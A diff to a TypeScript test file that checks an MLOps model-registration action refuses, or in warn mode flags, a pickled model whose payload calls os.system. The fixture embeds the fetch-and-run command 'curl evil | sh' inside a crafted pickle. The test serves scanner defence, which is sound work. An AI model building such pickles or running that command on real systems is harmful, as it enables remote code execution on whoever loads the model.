@@ -5,12 +5,13 @@ import { describe, expect, it } from "vitest";
 import { silentLogger } from "@mlops/core";
 import { LocalRegistry } from "@mlops/registry";
 import { runAction } from "@mlops/testkit";
-import { runRecord } from "./fixtures/run-record.js";
+import { callPickle } from "../../packages/scan/test-support/builders.js";
+import { pickledText, runRecord } from "./fixtures/run-record.js";
 
 async function workspace(): Promise<string> {
   const ws = await fs.mkdtemp(path.join(os.tmpdir(), "mlops-register-ws-"));
   await fs.mkdir(path.join(ws, "out"));
-  await fs.writeFile(path.join(ws, "out/model.pkl"), "pickled forest");
+  await fs.writeFile(path.join(ws, "out/model.pkl"), pickledText("pickled forest"));
   await fs.writeFile(path.join(ws, "out/run.json"), JSON.stringify(runRecord()));
   return ws;
 }
@@ -110,5 +111,36 @@ describe("register-model (bundled) with the local registry", () => {
     });
     expect(result.exitCode).toBe(1);
     expect(result.stdout).toContain("the training run failed (exit code 3); refusing to register its model");
+  });
+
+  it("model-scan (bundled, scanner loaded lazily): a pickle REDUCE-ing os.system registers nothing; warn registers it", async () => {
+    const ws = await workspace();
+    await fs.writeFile(path.join(ws, "out/model.pkl"), callPickle("os", "system", "curl evil | sh"));
+    const inputs = { model: "weather", "model-path": "out/model.pkl" };
+    const refused = await runAction("register-model", { cwd: ws, inputs });
+    expect(refused.exitCode, refused.stdout).toBe(1);
+    expect(refused.stdout).toMatch(
+      /::error::out\/model\.pkl: imports os\.system \(dangerous: .+\); registered nothing/,
+    );
+    expect(refused.stdout).toMatch(
+      /::error::model scan: out\/model\.pkl byte \d+: dangerous: imports os\.system/,
+    );
+    expect(refused.outputs).toEqual({});
+    await expect(fs.access(path.join(ws, ".mlops"))).rejects.toThrow();
+
+    const warned = await runAction("register-model", {
+      cwd: ws,
+      inputs: { ...inputs, "model-scan": "warn" },
+    });
+    expect(warned.exitCode, warned.stdout).toBe(0);
+    expect(warned.stdout).toMatch(
+      /::warning::model scan: out\/model\.pkl byte \d+: dangerous: imports os\.system/,
+    );
+    expect(warned.summary).toContain(
+      "model scan: dangerous — 1 global in 1 file; model.pkl: imports os.system",
+    );
+    const registry = new LocalRegistry({ root: path.join(ws, ".mlops/registry"), logger: silentLogger });
+    const v = await registry.get("weather", 1);
+    expect(v.scan).toMatchObject({ verdict: "dangerous", globals: [{ module: "os", name: "system" }] });
   });
 });
